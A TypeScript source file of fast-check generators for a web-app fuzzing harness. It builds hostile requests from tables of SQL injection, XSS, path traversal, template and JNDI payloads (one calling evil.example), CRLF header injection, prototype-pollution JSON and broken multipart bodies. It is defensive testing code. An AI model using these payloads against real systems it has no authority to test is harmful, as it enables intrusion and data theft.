// Generators of hostile input (fast-check arbitraries) and the builders that
// turn a generated plan into a concrete request. Values carry the placeholder
// `M` where a unique marker goes; the builders fill markers in and decide, per
// marker, where the answer may show it again (see the invariants in harness.ts).
import fc from "fast-check";
import { M, MarkerBag, printable, type EchoPolicy, type FuzzRequest } from "./harness.ts";

// ------------------------------------------------------------------ tables of known payloads

const SQL = [
  "' OR '1'='1",
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "1; SELECT pg_sleep(5)--",
  "' UNION SELECT NULL,NULL,NULL--",
  "%' AND 1=1 --",
  "\\'",
  "''''",
  "$$; SELECT 1; $$",
  "E'\\\\x00'",
  "::text",
  "1)) OR ((1=1",
  "admin'--",
  "'||(SELECT version())||'",
];
const XSS = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "<svg/onload=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "<!--",
  "]]>",
  "<![CDATA[x]]>",
  "&lt;&#x3c;&#60;",
  "'-alert(1)-'",
  "</script><script>alert(1)</script>",
];
const TRAVERSAL = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "..%252f..%252f",
  "/./././",
  "....//....//",
  "file:///etc/passwd",
  "\\\\server\\share",
  "/dev/zero",
  "~root",
  "/proc/self/environ",
];
const TEMPLATES = [
  "{{7*7}}",
  "${7*7}",
  "<%= 7*7 %>",
  "#{7*7}",
  "%s%s%s%n",
  "%x%x%x",
  "{0}",
  "${jndi:ldap://evil.example/a}",
  "{{constructor.constructor('return 1')()}}",
];
export const NUMBERS = [
  "0x5",
  "1e309",
  "-1e309",
  "-0",
  "NaN",
  "Infinity",
  "-Infinity",
  "5.0",
  " 5 ",
  "+5",
  "05",
  "5e0",
  "0b101",
  "0o5",
  "1_000",
  "9007199254740993",
  "-9223372036854775809",
  "99999999999999999999999",
  "\u0665",
  "\uff15",
  "\u2164",
  "5\u0000",
  "",
  "1,5",
  "0.1e1",
  "4.9999999999999999",
  // Integer column boundaries (int2, int4, int8) and the largest exact double.
  "32768",
  "2147483647",
  "2147483648",
  "-2147483649",
  "4294967296",
  "9007199254740991",
  "9223372036854775807",
  "9223372036854775808",
];
const SPECIAL_TEXT = [
  "__proto__",
  "constructor",
  "prototype",
  '{"__proto__":{"a":1}}',
  "[object Object]",
  "undefined",
  "null",
  "true",
  "\r\nSet-Cookie: evil=1",
  "%0d%0aSet-Cookie:%20evil=1",
  "%00",
  "%ff",
  "%u0000",
  "%",
  "%%",
  "%2",
  "%252e",
  "%C0%AE",
  "+",
  "#",
  "?",
  "&",
  "=",
  "\u0000",
  "\ud800",
  "\udfff",
  "\ud800\ud800",
  "\udc00\ud800",
  "\u202eevil\u202c",
  "\u200b\u200c\u200d\ufeff",
  "\u2028\u2029",
  "\ufffe\uffff",
  "e\u0301\u0301\u0301",
  "\ud835\udd4f\ud835\udd50",
  "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
  "\uff21\uff24\uff2d\uff29\uff2e",
  "\u0130\u0131",
  "\u00df",
  "\u0085",
  "\u00a0",
  "\ufdfa",
  " ",
  "   ",
  "\t\n\r",
  "\u3000",
  "a@b",
  "@",
  "a@b.c\u0000",
  '"a b"@example.com',
  "x@[127.0.0.1]",
  "http://",
  "https://[::1]",
  "//evil.example",
  "/\\evil.example",
  "/.//evil.example",
  "https://evil.example@offeratlas",
  "data:text/html,<script>alert(1)</script>",
];
const PAYLOADS = [...SQL, ...XSS, ...TRAVERSAL, ...TEMPLATES, ...NUMBERS, ...SPECIAL_TEXT];

/** Characters that break naive handling: controls, bidi and zero-width marks, surrogate halves, quoting, separators. */
const WEIRD = [
  "\u0000",
  "\u0001",
  "\u0008",
  "\u000b",
  "\u001b",
  "\u001f",
  "\u007f",
  "\u0085",
  "\u00a0",
  "\u2028",
  "\u2029",
  "\ufeff",
  "\ufffe",
  "\uffff",
  "\u200b",
  "\u200c",
  "\u200d",
  "\u200e",
  "\u200f",
  "\u202a",
  "\u202b",
  "\u202c",
  "\u202d",
  "\u202e",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u0301",
  "\ud800",
  "\udbff",
  "\udc00",
  "\udfff",
  "\r",
  "\n",
  "\t",
  "\\",
  '"',
  "'",
  "`",
  "<",
  ">",
  "&",
  "%",
  "+",
  "#",
  "?",
  "/",
  ";",
  ",",
  "=",
  "{",
  "}",
  "[",
  "]",
  "$",
  "*",
  "|",
  "^",
  "~",
  "\u0130",
  "\ufdfd",
  "\ud83d\ude00",
];

// ------------------------------------------------------------------ strings

const weirdChar = fc.oneof(
  fc.constantFrom(...WEIRD),
  fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
);

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 2, arbitrary: fc.string({ unit: weirdChar, minLength: 1, maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 16 }) },
);

/** A short hostile string holding one marker placeholder. */
export const hostileText: fc.Arbitrary<string> = fc
  .tuple(fc.array(piece, { maxLength: 4 }), fc.nat(8))
  .map(([pieces, at]) => {
    const out = [...pieces];
    out.splice(at % (out.length + 1), 0, M);
    return out.join("");
  });

const BOUNDARY_LENGTHS = [
  9, 10, 19, 20, 21, 29, 30, 31, 99, 100, 101, 119, 120, 121, 150, 151, 199, 200, 201, 254, 255, 256, 1024, 1025, 2000,
  2001, 4000, 4001, 4096, 4097, 5000, 5001, 8193, 20_480, 20_481, 65_537,
];

/** A hostile string padded to a length near a field limit, or anywhere up to `max` characters. */
export const longText = (max: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      hostileText,
      fc.constantFrom(
        "A",
        "\u00e9",
        "\u0000",
        "\ud835\udd4f",
        "<b>",
        "' OR 1=1 -- ",
        "\ud800",
        " ",
        "%ff",
        "\u202e",
        "\n",
      ),
      fc.oneof(fc.constantFrom(...BOUNDARY_LENGTHS.filter((n) => n <= max)), fc.integer({ min: 1, max })),
    )
    .map(([t, unit, n]) => t + unit.repeat(Math.max(0, Math.ceil((n - t.length) / unit.length))));

/** A hostile string of `min`…`max` characters (over a field's limit, up to a body limit). */
export const longTextBetween = (min: number, max: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      hostileText,
      fc.constantFrom(
        "A",
        "\u00e9",
        "\u0000",
        "\ud835\udd4f",
        "<b>",
        "' OR 1=1 -- ",
        "\ud800",
        " ",
        "%ff",
        "\u202e",
        "\n",
      ),
      fc.oneof(fc.constantFrom(...BOUNDARY_LENGTHS.filter((n) => n >= min && n <= max)), fc.integer({ min, max })),
    )
    .map(([t, unit, n]) => t + unit.repeat(Math.max(0, Math.ceil((n - t.length) / unit.length))));

const scalarJunk: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(
    0,
    -0,
    1,
    5,
    6,
    -1,
    2.5,
    1e308,
    -1e308,
    2 ** 53 + 2,
    Number.MAX_SAFE_INTEGER,
    1e21,
    5e-324,
    32_767,
    32_768,
    65_536,
    2_147_483_647,
    2_147_483_648,
    -2_147_483_648,
    -2_147_483_649,
    4_294_967_296,
    1e15,
  ),
);

/**
 * Field and parameter names nobody expects. `site` is not among them: it selects the
 * site for every request and has an input class of its own (an unknown site is refused
 * before anything else is looked at, which would hide every other finding).
 */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "",
    " ",
    "a.b",
    "a[b]",
    "$where",
    "g-recaptcha-response",
    "_method",
    "isAdmin",
    "scope",
    "SITE",
    "site[]",
  ),
  hostileText,
);

const nestArray = (depth: number): unknown => {
  let v: unknown = M;
  for (let i = 0; i < depth; i++) v = [v];
  return v;
};

/** Integer column boundaries (int2, int4, int8, the largest exact double), as numbers and as text. */
const INT_EDGES = [
  32_767, 32_768, 2_147_483_647, 2_147_483_648, -2_147_483_649, 4_294_967_296, 9_007_199_254_740_991, 1e15, 0, -1,
];
const intEdge: fc.Arbitrary<number | string> = fc.oneof(
  fc.constantFrom(...INT_EDGES),
  fc.constantFrom(...INT_EDGES.map(String), "9223372036854775807", "9223372036854775808", "-9223372036854775809"),
);

/** A JSON value for a field: mostly hostile strings, then wrong types, arrays, objects, deep nesting. */
export const jsonValueJunk = (maxLong: number): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 8, arbitrary: hostileText },
    { weight: 2, arbitrary: longText(maxLong) },
    { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
    { weight: 2, arbitrary: scalarJunk },
    { weight: 2, arbitrary: fc.oneof(intEdge, fc.array(intEdge, { minLength: 1, maxLength: 3 })) },
    { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
    {
      weight: 1,
      arbitrary: fc.array(fc.oneof(scalarJunk, fc.constantFrom(...NUMBERS)), { minLength: 1, maxLength: 4 }),
    },
    { weight: 1, arbitrary: fc.dictionary(hostileKey, hostileText, { maxKeys: 3 }) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
    { weight: 1, arbitrary: fc.integer({ min: 2, max: 400 }).map(nestArray) },
  );

/** Sets a property as an own, enumerable one, even `__proto__`. */
export const setOwn = (obj: Record<string, unknown>, key: string, value: unknown) =>
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });

export const markerBase = fc.integer({ min: 0, max: 36 ** 5 - 1 });

// ------------------------------------------------------------------ encoding

/** UTF-8, except that a lone surrogate becomes its 3-byte (invalid UTF-8) form: what a careless client sends. */
export function wtf8(s: string): Buffer {
  if (!LONE_SURROGATE.test(s)) return Buffer.from(s, "utf8");
  const bytes: number[] = [];
  for (let i = 0; i < s.length; i++) {
    let c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff && i + 1 < s.length) {
      const d = s.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) {
        c = 0x10000 + ((c - 0xd800) << 10) + (d - 0xdc00);
        i++;
      }
    }
    if (c < 0x80) bytes.push(c);
    else if (c < 0x800) bytes.push(0xc0 | (c >> 6), 0x80 | (c & 63));
    else if (c < 0x10000) bytes.push(0xe0 | (c >> 12), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
    else bytes.push(0xf0 | (c >> 18), 0x80 | ((c >> 12) & 63), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
  }
  return Buffer.from(bytes);
}

/** Percent-encodes a string as a browser would (lone surrogates as invalid UTF-8, which a browser never sends). */
export function pctEncode(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    let out = "";
    for (const b of wtf8(s)) {
      const ch = String.fromCharCode(b);
      out += /[A-Za-z0-9\-._~]/.test(ch) ? ch : `%${b.toString(16).toUpperCase().padStart(2, "0")}`;
    }
    return out;
  }
}

/** A header value: bytes outside printable ASCII are percent-encoded (a real HTTP parser would refuse them raw). */
export const headerSafe = (s: string) => s.replace(/[^\x20-\x7e]/g, (ch) => pctEncode(ch) || "?");

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
/**
 * Binary content in a text field: a NUL (no text holds one; PostgreSQL cannot store it).
 * Other control characters, bidi and zero-width marks are odd but valid text, and bytes
 * that are not UTF-8 (a lone surrogate on the wire) reach the form as U+FFFD, which is text.
 */
export const isBinaryText = (s: string) => s.includes("\u0000");
/** The same for the raw bytes of a value. */
export const isBinaryBytes = (bytes: Uint8Array) => bytes.includes(0);
/** The bytes a percent-encoded form value stands for (`+` is a space). */
export function formBytes(raw: string): Buffer {
  const out: number[] = [];
  for (let i = 0; i < raw.length; i++) {
    const hex = raw.slice(i + 1, i + 3);
    if (raw[i] === "%" && /^[0-9a-fA-F]{2}$/.test(hex)) {
      out.push(parseInt(hex, 16));
      i += 2;
    } else if (raw[i] === "+") out.push(0x20);
    else out.push(...wtf8(raw[i]));
  }
  return Buffer.from(out);
}
/** The largest form value a page may put back into its form after a refusal. */
export const REFILL_MAX = 8 * 1024;

// ------------------------------------------------------------------ URLs

const RAW_SEGMENTS = [
  "%",
  "%ff",
  "%00",
  "%u0000",
  "%2e%2e",
  "%252e%252e%252f",
  "%2f",
  "%5c",
  "..%2f..%2fetc%2fpasswd",
  "-1",
  "0",
  "00",
  "1e309",
  "0x5",
  "99999999999999999999999999",
  "9223372036854775808",
  "2147483648",
  "1.5",
  "%201",
  "+1",
  "%2B1",
  "%c0%af",
  "%e2%80%ae",
  "%ed%a0%80",
  "%ef%bb%bf1",
  "1%00",
  "1;DROP",
  "'",
  "%27",
  "%22",
  "%3Cscript%3E",
  "NaN",
  "Infinity",
  "-0",
  "1,2",
  "[1]",
  "%5B%5D",
  "__proto__",
  "constructor",
  "%F0%9F%98%80",
  "%C0%80",
  "a".repeat(199),
  "a".repeat(201),
  "%41".repeat(80),
  "1%0d%0aSet-Cookie:%20x=1",
  "%zz",
  "1%",
];

export type Segment = { raw: string } | { text: string };

/** A path segment: a real value, hostile text (percent-encoded), or raw percent-encoding junk. */
export const segmentArb = (real: readonly string[]): fc.Arbitrary<Segment> =>
  fc.oneof(
    {
      weight: real.length ? 2 : 0,
      arbitrary: fc.constantFrom(...(real.length ? real : ["1"])).map((raw) => ({ raw })),
    },
    { weight: 4, arbitrary: hostileText.map((text) => ({ text })) },
    { weight: 3, arbitrary: fc.constantFrom(...RAW_SEGMENTS).map((raw) => ({ raw })) },
    {
      weight: 1,
      arbitrary: fc.tuple(fc.constantFrom(...RAW_SEGMENTS), fc.constantFrom("", M)).map(([a, b]) => ({ raw: a + b })),
    },
    { weight: 1, arbitrary: longText(600).map((text) => ({ text })) },
  );

const QUERY_JUNK = [
  "%",
  "%%",
  "%ff",
  "%00",
  "%u0000",
  "&&&",
  "=",
  "==",
  "a=%",
  "a[b]=c",
  "a[__proto__][x]=1",
  "__proto__[x]=1",
  "constructor[prototype][x]=1",
  ";",
  "%26",
  "%3d",
  "+",
  "%2B",
  "?",
  "a=1&a=2&a=3",
  "a[]=1",
  "a[0]=1",
  "%E0%A4%A",
  "x=%C0%80",
  "%ed%a0%80=1",
];

const queryValue = fc.oneof(
  { weight: 5, arbitrary: hostileText.map((text): Segment => ({ text })) },
  { weight: 1, arbitrary: longText(3000).map((text): Segment => ({ text })) },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS, ...RAW_SEGMENTS).map((raw): Segment => ({ raw })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom("true", "false", "name", "random", "1", "2", "40", "41", "topOffers", "US,CA", "1,2,3")
      .map((raw): Segment => ({ raw })),
  },
);

export type QueryPlan = { pairs: [string, Segment][]; junk: string[] };

/** A query string: known names (and strangers) with hostile values, plus raw junk. */
export const queryArb = (names: readonly string[]): fc.Arbitrary<QueryPlan> =>
  fc.record({
    pairs: fc.array(
      fc.tuple(
        names.length
          ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: hostileKey })
          : hostileKey,
        queryValue,
      ),
      { maxLength: 4 },
    ),
    junk: fc.array(fc.constantFrom(...QUERY_JUNK), { maxLength: 2 }),
  });

/** Fills a segment's markers, encodes it. */
const renderSegment = (bag: MarkerBag, seg: Segment, where: string, policy: EchoPolicy) =>
  "raw" in seg ? bag.fill(seg.raw, where, policy) : pctEncode(bag.fill(seg.text, where, policy));

export function renderQuery(bag: MarkerBag, q: QueryPlan, valuePolicy: EchoPolicy): string {
  const parts = q.pairs.map(
    ([k, v]) => `${pctEncode(bag.fill(k, "query name", "never"))}=${renderSegment(bag, v, "query value", valuePolicy)}`,
  );
  return [...parts, ...q.junk].join("&");
}

/** Fills `:name` parameters of a route path. */
export function renderPath(bag: MarkerBag, template: string, segments: Record<string, Segment>): string {
  return template.replace(/:(\w+)\??/g, (_m, name: string) =>
    segments[name] ? renderSegment(bag, segments[name], `path :${name}`, "never") : "1",
  );
}

// ------------------------------------------------------------------ headers

const HEADER_NAMES = [
  "accept",
  "authorization",
  "cookie",
  "accept-encoding",
  "accept-language",
  "user-agent",
  "x-forwarded-for",
  "x-forwarded-host",
  "x-forwarded-proto",
  "x-request-id",
  "if-none-match",
  "if-modified-since",
  "range",
  "origin",
  "referer",
  "x-http-method-override",
  "content-type",
  "forwarded",
  "x-real-ip",
  "expect",
] as const;

const headerValue = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 1, arbitrary: longText(6000) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "",
      " ",
      "*/*",
      "application/json",
      "text/html;q=0",
      "gzip, deflate, br, zstd",
      "identity;q=0, *;q=0",
      "br;q=1.0, gzip;q=abc",
      "bytes=0-0,-1",
      "bytes=99999999999999999999-",
      "100-continue",
      "Bearer",
      "Bearer ",
      "Basic Og==",
      "auth._token.local=",
      "auth._token.local=%ff",
      "auth._token.local=Bearer%20x",
      "auth._token.local=a; auth._token.local=b",
      "127.0.0.1, ::1, 999.999.999.999",
      "unknown",
      'for="[::1]";proto=javascript',
      "DELETE",
      "null",
      '"etag"',
      "Thu, 01 Jan 1970 00:00:00 GMT",
    ),
  },
);

export type HeaderPlan = [string, string, "raw" | "bearer" | "cookie"][];

export const headerArb: fc.Arbitrary<HeaderPlan> = fc.uniqueArray(
  fc.tuple(
    fc.constantFrom(...HEADER_NAMES),
    headerValue,
    fc.constantFrom("raw" as const, "bearer" as const, "cookie" as const),
  ),
  { maxLength: 4, selector: (t) => t[0] },
);

export function renderHeaders(bag: MarkerBag, plan: HeaderPlan): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [name, value, how] of plan) {
    const v = headerSafe(bag.fill(value, `header ${name}`, "never"));
    if (name === "authorization" && how === "bearer") out[name] = `Bearer ${v}`;
    else if (name === "cookie" && how === "cookie") out[name] = `auth._token.local=${v}`;
    else out[name] = v;
  }
  return out;
}

// ------------------------------------------------------------------ content types

export const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "application/json; charset=utf-16le",
  "application/json; charset=latin1",
  "APPLICATION/JSON",
  "application/json;;;",
  "application/json; boundary=x",
  "application/vnd.api+json",
  "application/json-patch+json",
  "text/json",
  "text/plain",
  "text/plain; charset=utf-8",
  "text/html",
  "application/xml",
  "application/x-www-form-urlencoded",
  "application/x-www-form-urlencoded; charset=iso-8859-1",
  "multipart/form-data",
  "multipart/form-data; boundary=",
  "multipart/form-data; boundary=zz",
  "multipart/mixed; boundary=zz",
  "application/octet-stream",
  "*/*",
  "json",
  "application/json, text/plain",
  "image/png",
  "application/csp-report",
  `application/${M}`,
  `multipart/form-data; boundary=${M}`,
  `application/json; charset=${M}`,
  `text/${M}; charset=utf-8`,
];

// ------------------------------------------------------------------ raw JSON text

const SPECIAL_NUMBERS = [
  "1e309",
  "-1e309",
  "-0",
  "1e-400",
  "0x5",
  "NaN",
  "Infinity",
  "01",
  "1.",
  "+1",
  ".5",
  "99999999999999999999999",
  "5e5000",
  "1E+2",
];

/** JSON text that is not what `JSON.stringify` would produce: special numbers, duplicates, prototype keys, nesting, junk. */
export const rawJsonArb = (fields: readonly string[]): fc.Arbitrary<string | Buffer> => {
  const field = fc.constantFrom(...(fields.length ? fields : ["x"]));
  return fc.oneof(
    fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v) ?? "null"),
    fc.tuple(fc.jsonValue({ maxDepth: 3 }), hostileText).map(([v, t]) => JSON.stringify({ [M]: v, t })),
    fc.tuple(field, fc.constantFrom(...SPECIAL_NUMBERS)).map(([f, n]) => `{"${f}": ${n}}`),
    fc
      .tuple(field, hostileText, hostileText)
      .map(([f, a, b]) => `{"${f}": ${JSON.stringify(a)}, "${f}": ${JSON.stringify(b)}}`),
    fc.tuple(field, hostileText).map(([f, t]) => `{"__proto__": {"${f}": ${JSON.stringify(t)}, "isAdmin": true}}`),
    fc.tuple(field, hostileText).map(([f, t]) => `{"constructor": {"prototype": {"${f}": ${JSON.stringify(t)}}}}`),
    fc.tuple(field, hostileText).map(([f, t]) => `{"${f}": {"__proto__": null, "x": ${JSON.stringify(t)}}}`),
    fc.integer({ min: 1, max: 20_000 }).map((d) => "[".repeat(d) + "]".repeat(d)),
    fc.integer({ min: 1, max: 5000 }).map((d) => '{"a":'.repeat(d) + "1" + "}".repeat(d)),
    fc.integer({ min: 1, max: 5000 }).map((d) => "[".repeat(d)),
    fc.tuple(field, hostileText, fc.nat()).map(([f, t, cut]) => {
      const s = JSON.stringify({ [f]: t, other: [1, 2, { x: M }] });
      return s.slice(0, cut % s.length);
    }),
    fc.tuple(field, hostileText).map(([f, t]) => `\ufeff{"${f}": ${JSON.stringify(t)}}`),
    fc.tuple(field, hostileText).map(([f, t]) => `{'${f}': '${t}'}`),
    fc.tuple(field, hostileText).map(([f, t]) => `{"${f}": ${JSON.stringify(t)},}`),
    fc.tuple(field, hostileText).map(([f, t]) => `// comment\n{"${f}": ${JSON.stringify(t)}}`),
    fc
      .tuple(
        field,
        fc.constantFrom(
          "\\u0000",
          "\\ud800",
          "\\udfff",
          "\\ud800\\u0000",
          "\\u202e",
          "\\uffff",
          "\\x00",
          "\\u00",
          "\\",
        ),
      )
      .map(([f, e]) => `{"${f}": "${M}${e}"}`),
    fc
      .tuple(field, hostileText)
      .map(([f, t]) =>
        Buffer.concat([
          Buffer.from(`{"${f}": "`),
          wtf8(t),
          Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
          Buffer.from('"}'),
        ]),
      ),
    fc.constantFrom(
      "",
      " ",
      "null",
      "true",
      "false",
      "0",
      "-0",
      "[]",
      "{}",
      '""',
      '"x"',
      "[null]",
      '{"":""}',
      "\u0000",
      '{"a":1}{"b":2}',
      "\n\n\n",
    ),
  );
};

// ------------------------------------------------------------------ multipart

export type Part = { name: string; value: string | Buffer; filename?: string; type?: string; extraHeaders?: string[] };

export type MultipartOptions = {
  boundary: string;
  eol?: string;
  close?: boolean;
  preamble?: string;
  epilogue?: string;
};

export function buildMultipart(parts: Part[], o: MultipartOptions): Buffer {
  const eol = o.eol ?? "\r\n";
  const chunks: Buffer[] = [];
  if (o.preamble) chunks.push(wtf8(o.preamble + eol));
  for (const p of parts) {
    const disposition = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ""}`;
    const head = [
      `--${o.boundary}`,
      disposition,
      ...(p.type !== undefined ? [`Content-Type: ${p.type}`] : []),
      ...(p.extraHeaders ?? []),
      "",
      "",
    ].join(eol);
    chunks.push(wtf8(head), typeof p.value === "string" ? wtf8(p.value) : p.value, Buffer.from(eol));
  }
  if (o.close !== false) chunks.push(Buffer.from(`--${o.boundary}--${eol}`));
  if (o.epilogue) chunks.push(wtf8(o.epilogue));
  return Buffer.concat(chunks);
}

/** A boundary that needs no quoting in the Content-Type header. */
export const boundaryArb = fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/).map((s) => `----fuzz${s}`.slice(0, 70));

/** Ways to break a well-formed multipart body (its parts are given). */
export type BreakPlan =
  | { how: "boundary-mismatch" }
  | { how: "no-boundary-param" }
  | { how: "empty-boundary" }
  | { how: "long-boundary" }
  | { how: "quoted-boundary" }
  | { how: "marker-boundary" }
  | { how: "lf-only" }
  | { how: "no-closing" }
  | { how: "truncate"; at: number }
  | { how: "no-disposition" }
  | { how: "no-name" }
  | { how: "unterminated-quote" }
  | { how: "rfc5987-name" }
  | { how: "too-many-parts"; n: number }
  | { how: "big-field"; n: number }
  | { how: "many-headers"; n: number }
  | { how: "two-files" }
  | { how: "mixed" }
  | { how: "charset-junk" }
  | { how: "preamble-epilogue"; junk: string }
  | { how: "garbage"; bytes: Uint8Array }
  | { how: "nested" }
  | { how: "header-folding" }
  | { how: "marker-name" }
  | { how: "nul-in-headers" };

export const breakArb: fc.Arbitrary<BreakPlan> = fc.oneof(
  fc.constantFrom<BreakPlan>(
    { how: "boundary-mismatch" },
    { how: "no-boundary-param" },
    { how: "empty-boundary" },
    { how: "long-boundary" },
    { how: "quoted-boundary" },
    { how: "marker-boundary" },
    { how: "lf-only" },
    { how: "no-closing" },
    { how: "no-disposition" },
    { how: "no-name" },
    { how: "unterminated-quote" },
    { how: "rfc5987-name" },
    { how: "two-files" },
    { how: "mixed" },
    { how: "charset-junk" },
    { how: "nested" },
    { how: "header-folding" },
    { how: "marker-name" },
    { how: "nul-in-headers" },
  ),
  fc.nat(100_000).map((at): BreakPlan => ({ how: "truncate", at })),
  fc.integer({ min: 60, max: 400 }).map((n): BreakPlan => ({ how: "too-many-parts", n })),
  fc.integer({ min: 20_000, max: 200_000 }).map((n): BreakPlan => ({ how: "big-field", n })),
  fc.integer({ min: 90, max: 2000 }).map((n): BreakPlan => ({ how: "many-headers", n })),
  hostileText.map((junk): BreakPlan => ({ how: "preamble-epilogue", junk })),
  fc.uint8Array({ minLength: 0, maxLength: 4096 }).map((bytes): BreakPlan => ({ how: "garbage", bytes })),
);

/** A broken multipart body and the content type sent with it; every marker inside is "never". */
export function brokenMultipart(
  bag: MarkerBag,
  parts: Part[],
  boundary: string,
  plan: BreakPlan,
): { body: Buffer; contentType: string } {
  const ct = `multipart/form-data; boundary=${boundary}`;
  const ok = (ps: Part[] = parts, o: Partial<MultipartOptions> = {}) => buildMultipart(ps, { boundary, ...o });
  switch (plan.how) {
    case "boundary-mismatch":
      return { body: ok(parts, { boundary: `${boundary}X` }), contentType: ct };
    case "no-boundary-param":
      return { body: ok(), contentType: "multipart/form-data" };
    case "empty-boundary":
      return { body: ok(), contentType: "multipart/form-data; boundary=" };
    case "long-boundary": {
      const b = `${boundary}${"b".repeat(80)}`;
      return { body: ok(parts, { boundary: b }), contentType: `multipart/form-data; boundary=${b}` };
    }
    case "quoted-boundary":
      return { body: ok(), contentType: `multipart/form-data; boundary="${boundary}"; boundary=other` };
    case "marker-boundary": {
      const b = bag.fill(`x${M}`, "multipart boundary", "never");
      return { body: ok(parts, { boundary: `${b}-not` }), contentType: `multipart/form-data; boundary=${b}` };
    }
    case "lf-only":
      return { body: ok(parts, { eol: "\n" }), contentType: ct };
    case "no-closing":
      return { body: ok(parts, { close: false }), contentType: ct };
    case "truncate": {
      const full = ok();
      return { body: full.subarray(0, plan.at % Math.max(1, full.length)), contentType: ct };
    }
    case "no-disposition": {
      const body = ok()
        .toString("latin1")
        .replace(/Content-Disposition: [^\r\n]*\r\n/, "");
      return { body: Buffer.from(body, "latin1"), contentType: ct };
    }
    case "no-name":
      return {
        body: Buffer.from(
          ok()
            .toString("latin1")
            .replace(/; name="[^"]*"/, ""),
          "latin1",
        ),
        contentType: ct,
      };
    case "unterminated-quote":
      return {
        body: Buffer.from(
          ok()
            .toString("latin1")
            .replace(/name="([^"]*)"/, 'name="$1'),
          "latin1",
        ),
        contentType: ct,
      };
    case "rfc5987-name": {
      const body = ok()
        .toString("latin1")
        .replace(/; name="([^"]*)"/, "; name*=UTF-8''%ff%fe%00; name=\"$1\"");
      return { body: Buffer.from(body, "latin1"), contentType: ct };
    }
    case "too-many-parts": {
      const many = Array.from({ length: plan.n }, (_, i) => ({
        name: `f${i}`,
        value: bag.fill(`${M}`, "multipart field", "never"),
      }));
      return { body: ok([...parts, ...many]), contentType: ct };
    }
    case "big-field": {
      const big = bag.fill(M, "multipart field", "never") + "A".repeat(plan.n);
      return { body: ok([{ name: parts[0]?.name ?? "x", value: big }, ...parts.slice(1)]), contentType: ct };
    }
    case "many-headers": {
      const extra = Array.from({ length: plan.n }, (_, i) => `X-H${i}: ${i}`);
      return {
        body: ok([{ ...(parts[0] ?? { name: "x", value: "y" }), extraHeaders: extra }, ...parts.slice(1)]),
        contentType: ct,
      };
    }
    case "two-files": {
      const file = (n: string): Part => ({
        name: n,
        value: Buffer.from(bag.fill(`GIF89a${M}`, "file bytes", "never")),
        filename: "a.gif",
        type: "image/gif",
      });
      return { body: ok([...parts, file("logo"), file("logo"), file("other")]), contentType: ct };
    }
    case "mixed":
      return { body: ok(), contentType: `multipart/mixed; boundary=${boundary}` };
    case "charset-junk":
      return { body: ok(), contentType: `multipart/form-data; charset=utf-7; boundary=${boundary}` };
    case "preamble-epilogue": {
      const junk = bag.fill(plan.junk, "multipart preamble", "never");
      return { body: ok(parts, { preamble: `--${boundary}zz\r\n${junk}`, epilogue: junk }), contentType: ct };
    }
    case "garbage":
      return { body: Buffer.concat([Buffer.from(`--${boundary}\r\n`), Buffer.from(plan.bytes)]), contentType: ct };
    case "nested": {
      const inner = buildMultipart(parts, { boundary: "inner" });
      return { body: ok([{ name: "nested", value: inner, type: "multipart/mixed; boundary=inner" }]), contentType: ct };
    }
    case "header-folding": {
      const body = ok()
        .toString("latin1")
        .replace(/Content-Disposition: form-data;/, "Content-Disposition: form-data;\r\n\t");
      return { body: Buffer.from(body, "latin1"), contentType: ct };
    }
    case "marker-name": {
      const name = bag.fill(`${M}"; filename="../../${M}`, "multipart part name", "never");
      return { body: ok([...parts, { name, value: "x" }]), contentType: ct };
    }
    case "nul-in-headers": {
      const body = ok()
        .toString("latin1")
        .replace(/form-data; name="/, 'form-data\u0000; name="\u0000');
      return { body: Buffer.from(body, "latin1"), contentType: ct };
    }
  }
}

// ------------------------------------------------------------------ forms (urlencoded)

export const encodeForm = (pairs: [string, string][]) =>
  pairs.map(([k, v]) => `${pctEncode(k)}=${pctEncode(v)}`).join("&");

